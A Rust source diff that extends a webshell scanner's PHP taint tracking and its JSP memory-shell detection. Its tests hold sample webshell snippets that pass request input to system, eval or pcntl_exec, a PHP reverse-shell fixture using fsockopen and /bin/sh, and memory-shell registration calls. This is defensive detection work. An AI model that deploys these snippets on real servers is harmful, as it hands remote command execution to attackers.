@@ -362,6 +362,249 @@ fn input_properties(t: &str) -> Vec<String> {
     out
 }
 
+/// The arguments of the `sink…(` call in statement `s` that hold what it runs: the code or
+/// command (the first), `create_function`'s body (the second), and `pcntl_exec`'s path and
+/// argument list. A call not closed within the statement is read as one argument.
+fn run_arguments<'a>(s: &'a str, sink: &str) -> Vec<&'a str> {
+    // The call itself, not a method of the same name before it (`$db->exec(…)`).
+    let Some(p) = find_all(s, sink).find(|&at| plain_name_at(s, at)) else {
+        return Vec::new();
+    };
+    let open = &s[p + sink.len() - 1..];
+    let args = crate::php_tricks::arguments(near(open, 4096))
+        .unwrap_or_else(|| vec![near(&open[1..], 4096)]);
+    let (from, to) = match sink {
+        "create_function(" => (1, 2),
+        "pcntl_exec(" => (0, 2),
+        _ => (0, 1),
+    };
+    args.into_iter().skip(from).take(to - from).collect()
+}
+
+/// Whether `value` puts request input, or a variable that holds it, together with other
+/// text: a part of a `.` concatenation (`"ls " . $d`), a variable in a double-quoted string
+/// (`"ls $d"`), an element of an array literal (`array('-c', $d)`), or an argument of a call
+/// that only joins or splits text (`sprintf('%s 2>&1', $d)`, `implode(' ', $parts)`), two
+/// levels deep at most; not through any other call (`escapeshellarg($d)`, `intval(…)`).
+fn composes_input(value: &str, tainted: &[String], composed: &[String]) -> bool {
+    let value = near(value, 4096);
+    // `isset($q['c']) ? $q['c'] : 'id'`: what either branch gives, not what the test reads.
+    if let Some((yes, no)) = ternary_branches(value) {
+        return [yes, no].iter().any(|b| {
+            concatenated(b)
+                .take(64)
+                .any(|part| holds_input(part, tainted, composed, 0))
+        });
+    }
+    concatenated(value)
+        .take(64)
+        .any(|part| holds_input(part, tainted, composed, 0))
+}
+
+/// The two branches of a `test ? yes : no` at the top level of `v` (outside strings and
+/// brackets), up to the end of the statement; not `??`, `?->` or `::`.
+fn ternary_branches(v: &str) -> Option<(&str, &str)> {
+    let b = v.as_bytes();
+    let (mut depth, mut quote, mut question) = (0usize, None, None);
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        if let Some(q) = quote {
+            if c == b'\\' {
+                i += 1;
+            } else if c == q {
+                quote = None;
+            }
+            i += 1;
+            continue;
+        }
+        match c {
+            b'"' | b'\'' => quote = Some(c),
+            b'(' | b'[' => depth += 1,
+            b')' | b']' if depth == 0 => return None,
+            b')' | b']' => depth -= 1,
+            b';' if depth == 0 => return None,
+            b'?' if depth == 0 && question.is_none() => {
+                if matches!(b.get(i + 1), Some(b'?' | b'-' | b'>' | b':')) {
+                    // `??`, `?->`, `?>` and `?:` (the test itself is the value).
+                    return None;
+                }
+                question = Some(i);
+            }
+            b':' if depth == 0 && question.is_some() => {
+                if b.get(i + 1) == Some(&b':') {
+                    i += 2;
+                    continue;
+                }
+                let q = question.unwrap_or(0);
+                return Some((&v[q + 1..i], &v[i + 1..]));
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+/// The spans of `t`'s `/* … */` comments, outside strings and line comments, in order: at
+/// most 4,096 of them (the rest of a file of more is read as code).
+fn block_comments(t: &str) -> Vec<(usize, usize)> {
+    let b = t.as_bytes();
+    let mut spans = Vec::new();
+    if memchr::memmem::find(b, b"/*").is_none() {
+        return spans;
+    }
+    let mut i = 0;
+    while i < b.len() && spans.len() < 4096 {
+        match b[i] {
+            q @ (b'\'' | b'"') => {
+                i += 1;
+                while i < b.len() && b[i] != q {
+                    i += if b[i] == b'\\' { 2 } else { 1 };
+                }
+            }
+            b'#' => i = memchr::memchr(b'\n', &b[i..]).map_or(b.len(), |n| i + n),
+            b'/' if b.get(i + 1) == Some(&b'/') => {
+                i = memchr::memchr(b'\n', &b[i..]).map_or(b.len(), |n| i + n);
+            }
+            b'/' if b.get(i + 1) == Some(&b'*') => {
+                let end =
+                    memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |n| i + 2 + n + 2);
+                spans.push((i, end));
+                i = end;
+                continue;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    spans
+}
+
+/// Whether offset `at` lies inside one of the `spans` of `block_comments`.
+fn in_block_comment(spans: &[(usize, usize)], at: usize) -> bool {
+    let k = spans.partition_point(|&(start, _)| start <= at);
+    k > 0 && at < spans[k - 1].1
+}
+
+/// The names a `list($a, $b) = …` or `[$a, $b] = …` statement sets, and its value.
+fn destructured(s: &str) -> Option<(Vec<&str>, &str)> {
+    let t = s.trim_start_matches(|c: char| c.is_whitespace() || c == ';' || c == '{' || c == '}');
+    let t = t.strip_prefix("<?php").unwrap_or(t).trim_start();
+    let list = if let Some(rest) = t.strip_prefix("list") {
+        rest.trim_start()
+    } else if t.starts_with("[$") {
+        t
+    } else {
+        return None;
+    };
+    let items = crate::php_tricks::arguments(near(list, 1024))?;
+    let close = list.find([')', ']'])?;
+    let value = list[close + 1..].trim_start().strip_prefix('=')?;
+    if value.starts_with(['=', '>']) {
+        return None;
+    }
+    let names: Vec<&str> = items
+        .iter()
+        .map(|i| i.rsplit_once("=>").map_or(*i, |(_, v)| v).trim())
+        .filter(|n| n.starts_with('$') && n[1..].chars().all(crate::flows::is_ident) && n.len() > 1)
+        .take(16)
+        .collect();
+    (!names.is_empty()).then_some((names, value))
+}
+
+/// Calls whose value is their arguments' text, rearranged.
+const COMPOSING_CALLS: &[&str] = &[
+    "sprintf(",
+    "vsprintf(",
+    "implode(",
+    "join(",
+    "explode(",
+    "str_replace(",
+    "strtr(",
+    "urldecode(",
+    "rawurldecode(",
+];
+
+/// One part of a concatenation, for `composes_input`: `depth` is how many array literals or
+/// composing calls it is inside.
+fn holds_input(part: &str, tainted: &[String], composed: &[String], depth: usize) -> bool {
+    let part = crate::php_tricks::unwrapped(part.trim());
+    let mut names = tainted.iter().chain(composed);
+    if PHP_INPUT.iter().any(|i| part.starts_with(i)) || names.any(|v| starts_with_name(part, v)) {
+        return true;
+    }
+    if part.starts_with('"') {
+        return PHP_INPUT.iter().any(|i| part.contains(i))
+            || tainted
+                .iter()
+                .chain(composed)
+                .any(|v| crate::php_tricks::uses(part, v));
+    }
+    if depth >= 2 {
+        return false;
+    }
+    // The list from its `(` or `[`.
+    let list = if let Some(call) = COMPOSING_CALLS.iter().find(|c| part.starts_with(**c)) {
+        &part[call.len() - 1..]
+    } else if part.starts_with("array(") {
+        &part["array".len()..]
+    } else if part.starts_with('[') {
+        part
+    } else {
+        return false;
+    };
+    crate::php_tricks::arguments(list).is_some_and(|items| {
+        items.iter().take(64).any(|item| {
+            // `'k' => $v`: the value.
+            let item = item.rsplit_once("=>").map_or(*item, |(_, v)| v);
+            concatenated(item)
+                .take(64)
+                .any(|p| holds_input(p, tainted, composed, depth + 1))
+        })
+    })
+}
+
+/// The parts of a PHP expression joined by `.` at its top level (outside strings, calls and
+/// brackets), up to the end of the statement.
+fn concatenated(v: &str) -> impl Iterator<Item = &str> {
+    let mut parts = Vec::new();
+    let (mut depth, mut quote, mut escaped, mut start) = (0usize, None, false, 0);
+    for (i, c) in v.char_indices() {
+        if let Some(q) = quote {
+            if escaped {
+                escaped = false;
+            } else if c == '\\' {
+                escaped = true;
+            } else if c == q {
+                quote = None;
+            }
+            continue;
+        }
+        match c {
+            '"' | '\'' => quote = Some(c),
+            '(' | '[' => depth += 1,
+            ')' | ']' if depth == 0 => break,
+            ')' | ']' => depth -= 1,
+            ';' | ',' if depth == 0 => {
+                parts.push(&v[start..i]);
+                return parts.into_iter();
+            }
+            // Not a decimal point: `1.5`.
+            '.' if depth == 0
+                && !(v[..i].ends_with(|c: char| c.is_ascii_digit())
+                    && v[i + 1..].starts_with(|c: char| c.is_ascii_digit())) =>
+            {
+                parts.push(&v[start..i]);
+                start = i + 1;
+            }
+            _ => {}
+        }
+    }
+    parts.push(&v[start..]);
+    parts.into_iter()
+}
+
 /// Whether `rhs` is a variable that holds input, or one element of it, and nothing else:
 /// `$c = $k['a'];` after `$k = $_COOKIE;`.
 fn copies_tainted(rhs: &str, tainted: &[String]) -> bool {
@@ -421,6 +664,13 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
     // properties filled from it anywhere in the file (`$o->code = $_POST['z']`), read in a
     // method as `$this->code` that may come first.
     let mut tainted: Vec<String> = input_properties(t);
+    // Variables that hold request input put together with other text (`$c = "ls " . $d`,
+    // `$a = array('-c', $_GET['x'])`). Only an execution sink's argument reads them: a
+    // dispatcher's `$f = 'do_' . $_GET['op']` is not a webshell until its value runs.
+    let mut composed: Vec<String> = Vec::new();
+    let parses = find(t, "parse_str(").is_some();
+    // Where the file's `/* … */` comments are, found when a statement first needs it.
+    let comments = std::cell::OnceCell::new();
     // Every statement test below needs request input, a variable holding it, or eval/assert:
     // statements with none of them (most of any file) are skipped. What each statement holds
     // comes from one pass over the file, not from a search per word per statement.
@@ -441,14 +691,63 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
             .enumerate()
             .find(|(k, _)| held.has(INPUT_WORDS + k))
             .map(|(_, i)| i);
-        if input.is_none() && tainted.is_empty() && !held.has(EVAL_WORD) && !held.has(ASSERT_WORD) {
+        // `parse_str($_SERVER['QUERY_STRING'], $p)`: the request's parameters, in `$p`.
+        if parses
+            && let Some(p) = find(s, "parse_str(")
+            && let Some(args) =
+                crate::php_tricks::arguments(near(&s[p + "parse_str".len()..], 4096))
+            && let [from, into] = args[..]
+            && (PHP_INPUT.iter().any(|i| from.starts_with(i))
+                || from.starts_with("$_server['query_string']")
+                || from.starts_with("$_server[\"query_string\"]"))
+            && into.starts_with('$')
+            && into[1..].chars().all(crate::flows::is_ident)
+            && tainted.len() < 64
+        {
+            tainted.push(into.to_string());
+        }
+        if input.is_none()
+            && tainted.is_empty()
+            && composed.is_empty()
+            && !held.has(EVAL_WORD)
+            && !held.has(ASSERT_WORD)
+        {
             continue;
         }
-        if let Some((var, rhs)) = assigned_variable(s)
-            && tainted.len() < 64
-            && (from_input(s) || copies_tainted(rhs, &tainted))
+        // A statement of a comment (`// $res = shell_exec($cmd);`, ` * …`), or a line of a
+        // `/* … */` block that starts like one, says what code could do, not what it does.
+        let commented = {
+            let lead = s.trim_start_matches(|c: char| c.is_whitespace() || c == '}' || c == '{');
+            lead.starts_with("//")
+                || lead.starts_with("/*")
+                || lead.starts_with('#')
+                || lead.starts_with('*')
+                || in_block_comment(comments.get_or_init(|| block_comments(t)), here)
+        };
+        // `list($a, $b) = explode(':', $_COOKIE['s'])`, `[$a, $b] = …`: each name holds a
+        // piece of the input.
+        if !commented
+            && let Some((names, rhs)) = destructured(s)
+            && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
+            && composes_input(rhs, &tainted, &composed)
         {
-            tainted.push(var.to_string());
+            for v in names {
+                if composed.len() < 64 && !composed.iter().any(|c| c == v) {
+                    composed.push(v.to_string());
+                }
+            }
+        }
+        if let Some((var, rhs)) = assigned_variable(s) {
+            if tainted.len() < 64 && (from_input(s) || copies_tainted(rhs, &tainted)) {
+                tainted.push(var.to_string());
+            } else if composed.len() < 64
+                && !commented
+                && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
+                && composes_input(rhs, &tainted, &composed)
+                && !composed.iter().any(|c| c == var)
+            {
+                composed.push(var.to_string());
+            }
         }
         // `$_SESSION['p'] = $_POST['s']`: the session hands the input back, on this request
         // and every later one.
@@ -497,6 +796,25 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
                     Severity::Critical,
                     "Request input passed to code or command execution",
                     format!("`{var}` is set from request input and then given to `{sink}…)`: whoever sends the request chooses the code or command the server runs"),
+                    here,
+                ));
+                return true;
+            }
+            // Or input put together with other text, in the argument that is run:
+            // `system("ls " . $d)`, `system($e)` after `$e = $d . " 2>&1"`, or
+            // `pcntl_exec('/bin/sh', array('-c', $d))`. Not through an escaping call.
+            if !commented
+                && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
+                && (!tainted.is_empty() || !composed.is_empty() || input.is_some())
+                && run_arguments(s, sink)
+                    .iter()
+                    .any(|a| composes_input(a, &tainted, &composed))
+            {
+                hits.push(hit(
+                    "scan.heuristic.input_to_exec",
+                    Severity::Critical,
+                    "Request input passed to code or command execution",
+                    format!("request input, joined with other text, is what `{sink}…)` runs: whoever sends the request chooses the code or command the server runs"),
                     here,
                 ));
                 return true;
@@ -562,7 +880,8 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
         // the first 1,000 statements: a page of nothing else would be read again and again.
         let whole_lines = lines_read < 1000;
         // Or a variable that holds input, in backticks of the statement itself: `` `$c` ``.
-        let carried_tick = input.is_none() && held.has(TICK_WORD) && !tainted.is_empty();
+        let carried_tick =
+            input.is_none() && held.has(TICK_WORD) && !(tainted.is_empty() && composed.is_empty());
         if (input.is_some() && (held.has(TICK_WORD) || whole_lines && s.ends_with('}'))
             || carried_tick)
             && !s.contains("sql")
@@ -589,8 +908,9 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
                 // Quotes of an array key (`{$_GET['c']}`) are not a string around the ticks.
                 let unkeyed = body.replace("['", "[").replace("']", "]");
                 let unkeyed = unkeyed.replace("[\"", "[").replace("\"]", "]");
-                let holds_input =
-                    body.contains("$_") || tainted.iter().any(|v| crate::php_tricks::uses(body, v));
+                let holds_input = body.contains("$_")
+                    || tainted.iter().any(|v| crate::php_tricks::uses(body, v))
+                    || !commented && composed.iter().any(|v| crate::php_tricks::uses(body, v));
                 as_value && body.len() < 160 && holds_input && !unkeyed.contains(['\'', '"', '~'])
             });
             if !comment && command {
@@ -776,7 +1096,16 @@ fn wrapped_sink(t: &str, sinks: &[&str], hits: &mut Vec<Hit>) {
                 continue;
             };
             let rest = &t[from + f + "function ".len()..at];
-            let name = &rest[..rest.find(|c: char| !ident(c)).unwrap_or(rest.len())];
+            let mut name = &rest[..rest.find(|c: char| !ident(c)).unwrap_or(rest.len())];
+            // A closure kept in a variable, `$f = function ($s) { … }`: called as `$f(…)`.
+            if name.is_empty()
+                && let Some(before) = t[from..from + f].trim_end().strip_suffix('=')
+                && let Some(d) = before.trim_end().rfind('$')
+                && before.trim_end()[d + 1..].chars().all(ident)
+                && before.trim_end().len() > d + 1
+            {
+                name = &before.trim_end()[d..];
+            }
             let Some(params) = rest[name.len()..].trim_start().strip_prefix('(') else {
                 continue;
             };
@@ -1133,9 +1462,18 @@ pub(crate) fn bare_php_value(mut v: &str) -> &str {
 /// `$x = $_POST;`, `$c = @$_GET['c'];`, `$p = base64_decode($_COOKIE['p']);`.
 fn from_input(s: &str) -> bool {
     let Some(eq) = s.find('=') else { return false };
+    // `$c = $_GET['a'] == 'y' ? 'ls' : 'pwd'`: the value is a branch, not the test.
+    match ternary_branches(near(&s[eq + 1..], 4096)) {
+        Some((yes, no)) => value_from_input(yes) || value_from_input(no),
+        None => value_from_input(&s[eq + 1..]),
+    }
+}
+
+/// Whether an assigned value is request input, as `from_input` reads it.
+fn value_from_input(value: &str) -> bool {
     // `json_decode(file_get_contents('php://input'), true)`: parsing hands the request back.
     let rhs = without_calls(
-        &s[eq + 1..],
+        value,
         &[
             "json_decode(",
             "unserialize(",
@@ -1621,14 +1959,19 @@ fn jsp_fixed(t: &str, hits: &mut Vec<Hit>) {
             p,
         ));
     }
-    // A page that adds a filter, servlet, listener or WebSocket endpoint to the running server:
-    // the "memory shell", which answers on any URL and outlives the page's deletion.
+    // A page that adds a filter, servlet, listener, valve, controller or WebSocket endpoint to
+    // the running server: the "memory shell", which answers on any URL and outlives the
+    // page's deletion.
     let registers = [
         ("addfilterdef(", "standardcontext"),
         ("addfiltermap", "standardcontext"),
         ("addservletmapping", "standardcontext"),
         ("addapplicationeventlistener(", "standardcontext"),
         ("addendpoint(", "servercontainer"),
+        // Tomcat's request pipeline: a valve sees every request before any application.
+        ("addvalve(", "getpipeline()"),
+        // Spring MVC: a controller method mapped to a path at run time.
+        ("registermapping(", "requestmappinghandlermapping"),
     ];
     if let Some((p, call)) = registers
         .iter()
@@ -1637,7 +1980,7 @@ fn jsp_fixed(t: &str, hits: &mut Vec<Hit>) {
         hits.push(hit(
             "scan.heuristic.jsp_memory_shell",
             Severity::Critical,
-            "JSP registers a filter, servlet, listener or endpoint at run time",
+            "JSP registers a filter, servlet, listener, valve, controller or endpoint at run time",
             format!(
                 "the page calls `{}` on the running server's context: a memory-resident shell that answers on any URL and survives the page being deleted",
                 call.trim_end_matches('(')
@@ -2131,6 +2474,90 @@ mod tests {
     }
 
     #[test]
+    fn request_input_joined_into_what_runs() {
+        let flagged = [
+            "<?php $d = $_GET['x'];\nsystem(\"ls \" . $d);",
+            "<?php $d = $_GET['x'];\nsystem(\"ls $d\");",
+            "<?php $d = $_GET['x'];\n$e = $d . ' 2>&1';\nsystem($e);",
+            "<?php $c = \"ls \" . $_GET['x'];\nsystem($c);",
+            "<?php $a = array('-c', $_GET['x']);\npcntl_exec('/bin/sh', $a);",
+            "<?php $d = $_POST['x'];\npcntl_exec('/bin/sh', ['-c', $d]);",
+            "<?php $c = $_POST['c'];\n$f = sprintf('%s 2>&1', $c);\necho shell_exec($f);",
+            "<?php $p = explode('|', $_COOKIE['d']);\nexec(implode(' ', $p), $o);",
+            "<?php $k = $_SERVER['HTTP_X_K'];\n$code = 'return ' . $k . ';';\neval($code);",
+        ];
+        for page in flagged {
+            assert_eq!(
+                ids(ScriptKind::Php, page),
+                ["scan.heuristic.input_to_exec"],
+                "{page}"
+            );
+        }
+        // Escaped, cast, counted, run by a database method, or only in a comment.
+        let quiet = [
+            "<?php $f = $_GET['f'];\n$c = 'convert ' . escapeshellarg($f);\nexec($c);",
+            "<?php $a = escapeshellarg($_POST['h']);\nexec('ping -c 1 ' . $a, $o);",
+            "<?php $id = (int)$_GET['id'];\nexec('php w.php ' . $id);",
+            "<?php $n = intval($_GET['n']);\nexec(\"sleep $n\");",
+            "<?php $q = $_GET['q'];\n$s = 'DELETE FROM t WHERE a = ' . $q;\n$db->exec($s);",
+            "<?php $f = 'do_' . $_GET['op'];\nif (function_exists($f)) { echo 1; }",
+            "<?php /*\n$db = $_GET['db'];\n$cmd = \"pg_dump $db\";\n// $res = shell_exec($cmd);\n*/",
+            "<?php /*\n$db = $_GET['db'];\n$cmd = \"pg_dump $db\";\n$res = `$cmd`;\n*/ echo '/*';",
+            "<?php $v = 'v' . 1.5;\nsystem('ls');",
+        ];
+        for page in quiet {
+            let found = ids(ScriptKind::Php, page);
+            assert!(
+                !found.contains(&"scan.heuristic.input_to_exec")
+                    && !found.contains(&"scan.heuristic.backticks"),
+                "{page}: {found:?}"
+            );
+        }
+        // Input carried by a branch, a destructuring or a parsed query string.
+        let carried = [
+            (
+                "<?php $q = $_POST;\n$c = isset($q['c']) ? $q['c'] : 'id';\npassthru($c);",
+                "scan.heuristic.input_to_exec",
+            ),
+            (
+                "<?php list($a, $b) = explode(':', base64_decode($_COOKIE['s']));\necho `$b`;",
+                "scan.heuristic.backticks",
+            ),
+            (
+                "<?php [$k, $c] = explode('|', $_GET['p']);\nsystem($c);",
+                "scan.heuristic.input_to_exec",
+            ),
+            (
+                "<?php parse_str($_SERVER['QUERY_STRING'], $p);\necho shell_exec($p['q']);",
+                "scan.heuristic.input_to_exec",
+            ),
+        ];
+        for (page, check) in carried {
+            assert_eq!(ids(ScriptKind::Php, page), [check], "{page}");
+        }
+        // The test reads input, the command does not; a null-safe call is no branch.
+        let fixed = [
+            "<?php $c = $_GET['a'] == 'y' ? 'ls' : 'pwd';\nsystem($c);",
+            "<?php $c = $o?->name;\nsystem('ls');",
+        ];
+        for page in fixed {
+            assert!(ids(ScriptKind::Php, page).is_empty(), "{page}");
+        }
+    }
+
+    #[test]
+    fn block_comments_outside_strings() {
+        let t = "a /* one */ b '/* no */' // x /* no\nc \"it's /*\" # '/* no\n/* two";
+        let spans = block_comments(t);
+        assert_eq!(spans.len(), 2, "{spans:?}");
+        assert_eq!(&t[spans[0].0..spans[0].1], "/* one */");
+        assert_eq!(&t[spans[1].0..spans[1].1], "/* two");
+        assert!(in_block_comment(&spans, t.find("one").unwrap()));
+        assert!(!in_block_comment(&spans, t.find(" b").unwrap()));
+        assert!(in_block_comment(&spans, t.len() - 1));
+    }
+
+    #[test]
     fn php_reverse_shell_and_mailers() {
         let shell = r#"<?php $sock = fsockopen($ip, $port); $shell = 'uname -a; /bin/sh -i';
 $process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "w")), $pipes);"#;
@@ -2155,6 +2582,16 @@ $process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "
         let endpoint = "<% ServerContainer sc = (ServerContainer) application.getAttribute(\"javax.websocket.server.ServerContainer\"); sc.addEndpoint(cfg); %>";
         assert_eq!(
             ids(ScriptKind::Jsp, endpoint),
+            ["scan.heuristic.jsp_memory_shell"]
+        );
+        let valve = "<% StandardContext c = (StandardContext) r.getContext(); c.getPipeline().addValve(new ValveBase() { }); %>";
+        assert_eq!(
+            ids(ScriptKind::Jsp, valve),
+            ["scan.heuristic.jsp_memory_shell"]
+        );
+        let controller = "<% RequestMappingHandlerMapping m = ctx.getBean(RequestMappingHandlerMapping.class); m.registerMapping(info, bean, method); %>";
+        assert_eq!(
+            ids(ScriptKind::Jsp, controller),
             ["scan.heuristic.jsp_memory_shell"]
         );
         // An application's own WebSocket endpoint class and a page that only reads its context.
